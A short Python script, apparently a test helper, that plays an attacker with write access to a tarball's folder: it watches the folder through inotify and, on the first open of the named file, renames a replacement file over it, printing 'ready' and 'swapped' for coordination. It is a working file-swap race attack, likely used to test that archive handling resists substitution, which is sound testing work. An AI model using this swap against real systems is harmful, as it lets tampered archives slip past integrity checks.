"""An attacker who can write a tarball's folder: the moment the tarball is opened, rename another file over it.

    python3 swapper.py FOLDER NAME REPLACEMENT SECONDS

Watches FOLDER with inotify (through libc, the standard library has no binding) and, on the first
IN_OPEN of NAME, renames REPLACEMENT (in the same folder) over it. Prints "ready" once the watch is in
place and "swapped" after the rename; gives up after SECONDS.
"""

import ctypes
import ctypes.util
import os
import select
import struct
import sys
import time

IN_OPEN = 0x00000020
IN_CLOEXEC = 0o2000000
EVENT_HEADER = struct.Struct("iIII")


def watch(folder):
    libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
    descriptor = libc.inotify_init1(IN_CLOEXEC)
    if descriptor < 0 or libc.inotify_add_watch(descriptor, os.fsencode(folder), IN_OPEN) < 0:
        raise OSError(ctypes.get_errno(), "inotify")
    return descriptor


def opened_names(data):
    offset = 0
    while offset < len(data):
        _, mask, _, length = EVENT_HEADER.unpack_from(data, offset)
        offset += EVENT_HEADER.size
        name = data[offset:offset + length].rstrip(b"\0").decode()
        offset += length
        if mask & IN_OPEN:
            yield name


def main(folder, name, replacement, seconds):
    descriptor = watch(folder)
    print("ready", flush=True)
    deadline = time.monotonic() + float(seconds)
    while time.monotonic() < deadline:
        readable, _, _ = select.select([descriptor], [], [], max(0.0, deadline - time.monotonic()))
        if not readable:
            break
        if name in opened_names(os.read(descriptor, 65536)):
            os.rename(os.path.join(folder, replacement), os.path.join(folder, name))
            print("swapped", flush=True)
            return 0
    return 1


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
